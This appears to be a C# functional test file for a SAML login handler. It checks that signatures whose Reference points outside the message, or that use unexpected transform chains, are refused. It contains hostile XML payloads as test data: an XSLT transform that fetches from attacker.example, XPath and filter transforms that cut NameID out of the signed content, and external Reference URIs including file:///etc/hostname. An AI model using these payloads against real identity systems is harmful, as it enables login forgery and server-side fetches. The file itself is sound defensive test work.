using System.Security.Cryptography;
using System.Text;
using System.Xml;
using ContextHandler.Testing.Attacks;

namespace ContextHandler.FunctionalTests.Attacks;

/// <summary>Rule R7: one Reference, to the parent's ID, through two transforms. Each signature here is made by the IdP's own key.</summary>
public class TransformTests(AttackStage stage) : IClassFixture<AttackStage>
{
    private const string Ds = "http://www.w3.org/2000/09/xmldsig#";
    private const string ExcC14N = "http://www.w3.org/2001/10/xml-exc-c14n#";
    private const string Enveloped = $"<Transform Algorithm=\"{Ds}enveloped-signature\"/>";
    private const string Exclusive = $"<Transform Algorithm=\"{ExcC14N}\"/>";
    private const string Xslt = """<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('http://attacker.example/')"/></xsl:template></xsl:stylesheet></Transform>""";
    private const string XPath = """<Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><XPath>not(ancestor-or-self::*[local-name()='NameID'])</XPath></Transform>""";
    private const string Filter2 = """<Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><XPath xmlns="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*[local-name()='NameID']</XPath></Transform>""";

    // What SignedXml makes of it stands behind the reason: some of these it verifies.
    private static readonly Dictionary<string, (string Transforms, string Reason, bool Verifies)> Chains = new()
    {
        ["XSLT"] = (Xslt + Exclusive, "SignatureReferenceRefused", false),
        ["XSLT between the two"] = (Enveloped + Xslt + Exclusive, "SignatureReferenceRefused", false),
        ["XPath"] = (XPath + Exclusive, "SignatureReferenceRefused", false),
        ["XPath between the two"] = (Enveloped + XPath + Exclusive, "SignatureReferenceRefused", false),
        ["the XPath filter"] = (Enveloped + Filter2, "SignatureReferenceRefused", false),
        ["base64"] = (Enveloped + Transform(Ds + "base64"), "SignatureReferenceRefused", false),
        ["decryption"] = (Enveloped + Transform("http://www.w3.org/2002/07/decrypt#XML"), "SignatureReferenceRefused", false),
        ["a license"] = (Enveloped + Transform("urn:mpeg:mpeg21:2003:01-REL-R-NS:licenseTransform"), "SignatureReferenceRefused", false),
        ["inclusive canonical XML"] = (Enveloped + Transform("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"), "SignatureReferenceRefused", false),
        ["canonical XML with comments"] = (Enveloped + Transform(ExcC14N + "WithComments"), "SignatureReferenceRefused", true),
        ["the two in the other order"] = (Exclusive + Enveloped, "SignatureReferenceRefused", false),
        ["enveloped-signature alone"] = (Enveloped, "SignatureReferenceRefused", false),
        ["none"] = (string.Empty, "SignatureReferenceRefused", false),
        ["canonical XML twice"] = (Enveloped + Exclusive + Exclusive, "SignatureReferenceRefused", true),
        ["ten"] = (Enveloped + Repeated(Exclusive, 9), "SignatureReferenceRefused", true),
        ["eleven"] = (Enveloped + Repeated(Exclusive, 10), "SignatureReferenceRefused", false),
    };

    private static readonly Dictionary<string, string> Elsewhere = new()
    {
        ["http"] = "http://attacker.example/assertion",
        ["https"] = "https://attacker.example/assertion#_id",
        ["ftp"] = "ftp://attacker.example/assertion",
        ["a file"] = "file:///etc/hostname",
        ["a path"] = "assertion.xml",
        ["data"] = "data:text/xml,%3Ca/%3E",
    };

    public static MatrixTheoryData<string, Form> ElsewhereInEachForm => new(Elsewhere.Keys, Forms.All);

    public static MatrixTheoryData<string, Form> ChainsInEachForm => new(Chains.Keys, Forms.All);

    public static MatrixTheoryData<int, Form> CountsInEachForm => new([2, 3, 100, 101, 500], Forms.All);

    [Theory]
    [MemberData(nameof(ElsewhereInEachForm))]
    public async Task C06_a_reference_to_something_outside_the_message(string what, Form form)
    {
        using var login = await stage.BeginAsync();
        var attack = OddSignature.Edited(login, form, signedInfo =>
        {
            OddSignature.Child(signedInfo, "Reference").SetAttribute("URI", Elsewhere[what]);
            OddSignature.Child(signedInfo, "DigestValue").InnerText = Convert.ToBase64String(SHA256.HashData("<a/>"u8));
        });

        await login.RefusedAsync(attack, "SignatureReferenceRefused");
        await login.AcceptedAsync(form);
    }

    [Theory]
    [EachForm]
    public async Task C06_a_reference_to_a_listener_on_this_machine(Form form)
    {
        using var trap = new Trap();
        using var login = await stage.BeginAsync();
        foreach (var scheme in new[] { "http", "https", "ftp" })
        {
            await login.RefusedAsync(
                OddSignature.Edited(login, form, signedInfo => OddSignature.Child(signedInfo, "Reference").SetAttribute("URI", trap.Url(scheme))),
                "SignatureReferenceRefused");
        }

        await login.AcceptedAsync(form);
        Assert.False(trap.WasSprung);
    }

    [Theory]
    [MemberData(nameof(ChainsInEachForm))]
    public async Task C07_other_transforms_than_the_two(string what, Form form)
    {
        using var login = await stage.BeginAsync();
        var (transforms, reason, verifies) = Chains[what];
        var attack = OddSignature.Edited(login, form, signedInfo => OddSignature.Child(signedInfo, "Transforms").InnerXml = WithNamespace(transforms));

        if (verifies)
        {
            login.SignatureHolds(attack);
        }

        await login.RefusedAsync(attack, reason);
        await login.AcceptedAsync(form);
    }

    [Theory]
    [MemberData(nameof(CountsInEachForm))]
    public async Task C08_more_references_than_one(int count, Form form)
    {
        using var login = await stage.BeginAsync();
        var attack = OddSignature.Edited(login, form, signedInfo =>
        {
            var reference = OddSignature.Child(signedInfo, "Reference");
            for (var another = 1; another < count; another++)
            {
                reference.ParentNode!.AppendChild(reference.CloneNode(deep: true));
            }
        });

        if (count <= 100)
        {
            login.SignatureHolds(attack); // its own limit
        }

        // 500 References are more elements than a message may have (decision 13).
        await login.RefusedAsync(attack, count < 500 ? "StructureRefused" : form == Form.Encrypted ? "DecryptionFailed" : "XmlTooComplex");
        await login.AcceptedAsync(form);
    }

    [Theory]
    [EachForm]
    public async Task C08_no_reference_at_all(Form form)
    {
        using var login = await stage.BeginAsync();
        var attack = OddSignature.Edited(login, form, signedInfo => signedInfo.RemoveChild(OddSignature.Child(signedInfo, "Reference")));

        await login.RefusedAsync(attack, "StructureRefused");
        await login.AcceptedAsync(form);
    }

    private static string Transform(string algorithm) => $"<Transform Algorithm=\"{algorithm}\"/>";

    private static string Repeated(string transform, int times) => string.Concat(Enumerable.Repeat(transform, times));

    private static string WithNamespace(string transforms) => transforms.Replace("<Transform ", $"<Transform xmlns=\"{Ds}\" ", StringComparison.Ordinal);
}
